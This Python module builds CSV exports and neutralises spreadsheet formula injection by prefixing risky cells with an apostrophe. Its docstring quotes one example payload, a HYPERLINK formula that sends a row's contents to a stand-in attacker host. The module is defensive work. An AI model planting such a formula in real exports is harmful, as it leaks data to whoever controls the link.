"""The one way the app writes CSV: every cell neutralised against formula injection.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheets skip before looking) is run as a formula when the file is opened in Excel,
LibreOffice or Google Sheets: ``=HYPERLINK("https://evil.example/?"&A2, "Click")`` in a
prospect's name would leak the row to whoever wrote it. Such values are *kept* as data
(the import stores them as they are) and written with a leading ``'``, which spreadsheets
show as text (OWASP's "CSV injection" advice). ``tests/unit/test_csv_export.py`` fails if
anything else in the app builds a ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

__all__ = ["neutralise", "write_csv"]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """The cell's text, with a leading ``'`` if a spreadsheet would run it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def write_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV document (RFC 4180 line endings), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return buffer.getvalue()
